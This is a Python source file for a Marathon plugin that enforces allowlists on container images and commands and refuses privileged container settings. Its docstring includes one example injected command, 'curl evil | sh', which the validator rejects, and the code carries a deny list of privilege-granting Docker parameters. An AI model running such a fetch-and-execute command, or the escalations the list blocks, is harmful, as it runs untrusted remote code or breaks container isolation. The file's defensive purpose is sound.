"""Allowlists for what apps may run: images, commands, privileges.

A `RunSpecValidator` in Marathon's terms: every app a change creates or
modifies is checked, and any violation refuses the whole change with 422
`Object is not valid`, one detail per broken rule.

Plugin descriptor (`--plugin_conf`)::

    {"plugins": {"policy": {
        "plugin": "policy-allowlist",
        "configuration": {
          "images": ["registry.corp/*"],
          "commands": ["python3 *", "sleep *"],
          "forbid_privileged": true}}}}

* `images`: globs a container image (`/container/docker/image`) must match.
  `*` matches any run of characters (`/` included), `?` any one character.
  Apps without an image are not affected.
* `commands`: globs `cmd` (`/cmd`) and the space-joined `args` (`/args`) must
  match.  Shell-aware: a wildcard never matches `; & | \\` < >`, a newline or
  `$(`, so `python3 *` allows `python3 app.py --port $PORT0` but not
  `python3 x; curl evil | sh`.  Write such characters literally in the
  pattern to allow them.  Apps with neither `cmd` nor `args` (an image's own
  entrypoint) are not affected.
* `forbid_privileged`: refuses `privileged: true`
  (`/container/docker/privileged`), the Docker parameters that amount to it
  (`privileged`, `cap-add`, `device`, `security-opt`, `pid`/`ipc`/`uts`/
  `userns`=host; `/container/docker/parameters(i)`), and an unconfined
  seccomp profile (`/container/linuxInfo/seccomp/unconfined`).

A key that is absent imposes nothing; an empty list allows nothing.  An app
that already runs and breaks a rule added later is refused on its next change
(a scale included), as in Marathon.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from typing import Any

from marathon.hookspecs import PolicyViolation, hookimpl
from marathon.models import AppDefinition

__all__ = ["PolicyAllowlist", "command_glob", "image_glob"]

# What a wildcard in a command pattern may match: anything but the shell's
# control characters, and never the `$(` of a command substitution.
_WILD = r"(?:[^;&|`<>\n\r$(]|\$(?!\()|(?<!\$)\()"
_PRIVILEGED_PARAMETERS = {"privileged", "cap-add", "device", "security-opt"}
_HOST_NAMESPACE_PARAMETERS = {"pid", "ipc", "uts", "userns", "cgroupns"}
_CONFIG_KEYS = {"images", "commands", "forbid_privileged"}


def _glob(pattern: str, any_char: str) -> re.Pattern[str]:
    parts = []
    for ch in pattern:
        if ch == "*":
            parts.append(any_char + "*")
        elif ch == "?":
            parts.append(any_char)
        else:
            parts.append(re.escape(ch))
    return re.compile("".join(parts))


def image_glob(pattern: str) -> re.Pattern[str]:
    """`*`: any characters; `?`: one character (use with `fullmatch`)."""
    return _glob(pattern, "[^\n]")


def command_glob(pattern: str) -> re.Pattern[str]:
    """Like `image_glob`, but wildcards never match shell control characters."""
    return _glob(pattern, _WILD)


def _patterns(configuration: Mapping[str, Any], key: str, compile_: Any) -> tuple[list[str], list[re.Pattern[str]]] | None:
    if key not in configuration:
        return None
    value = configuration[key]
    if not isinstance(value, list) or not all(isinstance(p, str) and p for p in value):
        raise ValueError(f"'{key}' must be a list of non-empty glob patterns")
    return list(value), [compile_(p) for p in value]


class PolicyAllowlist:
    def __init__(self) -> None:
        self._images: tuple[list[str], list[re.Pattern[str]]] | None = None
        self._commands: tuple[list[str], list[re.Pattern[str]]] | None = None
        self._forbid_privileged = False

    @hookimpl
    def marathon_configure(self, plugin_id: str, configuration: Mapping[str, Any], marathon_info: Mapping[str, Any]) -> None:
        unknown = set(configuration) - _CONFIG_KEYS
        if unknown:
            raise ValueError(f"unknown configuration keys: {', '.join(sorted(unknown))} (known: {', '.join(sorted(_CONFIG_KEYS))})")
        forbid = configuration.get("forbid_privileged", False)
        if not isinstance(forbid, bool):
            raise ValueError("'forbid_privileged' must be true or false")
        self._images = _patterns(configuration, "images", image_glob)
        self._commands = _patterns(configuration, "commands", command_glob)
        self._forbid_privileged = forbid

    @hookimpl
    def marathon_validate_app(self, app: AppDefinition) -> Sequence[PolicyViolation]:
        violations: list[PolicyViolation] = []
        container = app.container
        docker = container.docker if container else None
        if docker and self._images is not None:
            shown, compiled = self._images
            if not any(p.fullmatch(docker.image) for p in compiled):
                violations.append(PolicyViolation(
                    "/container/docker/image",
                    f"image '{docker.image}' is not allowed: it must match one of {_listing(shown)}",
                ))
        if self._commands is not None:
            shown, compiled = self._commands
            for path, text in (("/cmd", app.cmd if isinstance(app.cmd, str) else None),
                               ("/args", " ".join(app.args) if app.args else None)):
                if text is not None and not any(p.fullmatch(text) for p in compiled):
                    violations.append(PolicyViolation(
                        path,
                        f"command is not allowed: it must match one of {_listing(shown)} "
                        "(wildcards never match ; & | ` < > $( or line breaks)",
                    ))
        if self._forbid_privileged and container:
            violations.extend(_privileges(container))
        return violations


def _privileges(container: Any) -> list[PolicyViolation]:
    out = []
    docker = container.docker
    if docker and docker.privileged:
        out.append(PolicyViolation("/container/docker/privileged", "privileged containers are not allowed"))
    for i, param in enumerate(docker.parameters if docker else ()):
        key = param.key.lstrip("-").lower()
        if key in _PRIVILEGED_PARAMETERS or (key in _HOST_NAMESPACE_PARAMETERS and param.value.lower() == "host"):
            out.append(PolicyViolation(
                f"/container/docker/parameters({i})",
                f"docker parameter '{param.key}' is not allowed: it grants privileges to the container",
            ))
    linux = container.linux_info
    if linux and linux.seccomp and linux.seccomp.unconfined:
        out.append(PolicyViolation("/container/linuxInfo/seccomp/unconfined", "unconfined seccomp is not allowed"))
    return out


def _listing(patterns: list[str]) -> str:
    return ", ".join(f"'{p}'" for p in patterns) if patterns else "(none: the list is empty)"
